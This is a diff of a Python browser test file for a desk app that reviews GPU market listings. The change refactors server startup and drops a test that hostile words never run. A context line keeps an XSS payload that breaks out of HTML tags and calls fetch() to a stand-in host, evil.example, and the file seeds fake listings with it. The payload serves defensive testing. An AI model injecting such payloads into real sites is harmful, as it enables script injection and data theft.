@@ -1,14 +1,9 @@
-"""The morning's work in a real browser, by keyboard alone; hostile words that must not run; and that no request leaves."""
+"""The morning's work in a real browser, by keyboard alone, among hostile words; and that no request leaves."""
 
 from __future__ import annotations
 
 import hashlib
 import json
-import re
-import signal
-import socket
-import subprocess
-import sys
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -22,6 +17,7 @@ from review.build import build as build_digest
 from review.desk.people import People
 from storage.store import Store
 from tests import handover, hostile
+from tests.desking import serving
 
 pytestmark = pytest.mark.browser
 
@@ -33,8 +29,8 @@ SCRIPT = "</title></textarea>'\"><script>window.PWN7=1;fetch('//evil.example/PWN
 
 
 def hostile_offers() -> list[dict[str, Any]]:
-    """Offers that are judged, with words from every family of payloads around what they are judged by."""
-    words = [SCRIPT, *hostile.HTML[::16], *hostile.TEMPLATES[:3], *hostile.ENTITIES[:3]]
+    """Offers that are judged, with hostile words around what they are judged by; some thousands of them come by crawl (test_hostile_crawl.py)."""
+    words = [SCRIPT, *hostile.SOME[::100]]
     return [
         {**handover.OFFERS[0], "listing_id": f"h{n}", "title": f"NVIDIA H100 80GB PCIe serial removed {word}", "description": f"{word} Serial numbers removed {SCRIPT} no invoice {word}",
          "location": f"Shenzhen {SCRIPT}", "seller_id": SCRIPT + str(n), "condition": SCRIPT}
@@ -46,30 +42,8 @@ def hostile_offers() -> list[dict[str, Any]]:
 def served(tmp_path_factory: pytest.TempPathFactory, chromium: Any) -> Iterator[tuple[Path, str, str]]:
     """A home, the address of a desk that the command line serves on it, and Ana's link."""
     home = handover.build(tmp_path_factory.mktemp("home") / "home", (*OFFERS, *hostile_offers()))
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port = free.getsockname()[1]
-    command = [
-        sys.executable,
-        "-m",
-        "chipwatch.cli",
-        "--home",
-        str(home),
-        "desk",
-        "--person",
-        "Ana",
-        "--port",
-        str(port),
-    ]
-    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
-    try:
-        assert process.stderr is not None
-        link = re.search(r"Ana: (http://\S+)", process.stderr.readline())
-        assert link is not None and process.stderr.readline().startswith("stop with")
-        yield home, f"http://127.0.0.1:{port}", link[1]
-    finally:
-        process.send_signal(signal.SIGINT)
-        assert process.wait(20) == 0
+    with serving(home, "Ana") as (address, link):
+        yield home, address, link
 
 
 @pytest.fixture
@@ -199,20 +173,6 @@ def test_keys_leave_fields_alone_and_help_is_there(page: Any) -> None:
     assert page.locator("[data-item] input:checked").count() == 0
     keys(page, "g", ">d")
     assert page.url.endswith("/chipwatch")
-
-
-def test_hostile_words_do_not_run_anywhere(page: Any, served: tuple[Path, str, str]) -> None:
-    home, address, _ = served
-    with Store.open(home, readonly=True) as store:
-        listings = [row["listing"] for row in store.alerts(limit=500) if "PWN7" in row["title"]]
-        evidence = store.history(listings[0])[0].evidence
-    assert len(listings) > 15 and evidence is not None
-    paths = ["/", "/?state=any", *(f"/alert/{key}" for key in listings[:10]), "/search?q=H100", f"/search?q={SCRIPT.replace('#', '')}", f"/?chip={SCRIPT}", f"/evidence/{evidence.id}",
-             "/record", "/chipwatch/alert", "/chipwatch/observation", f"/chipwatch/listing/{listings[0]}", "/market", "/sellers", "/sites", "/tuning"]  # fmt: skip
-    for path in paths:
-        page.goto(address + path)
-        assert page.evaluate("window.PWN7") is None, path
-        assert page.locator("img").count() == 0, path
 
 
 def test_no_page_of_datasette_breaks_the_policy(page: Any, served: tuple[Path, str, str]) -> None:
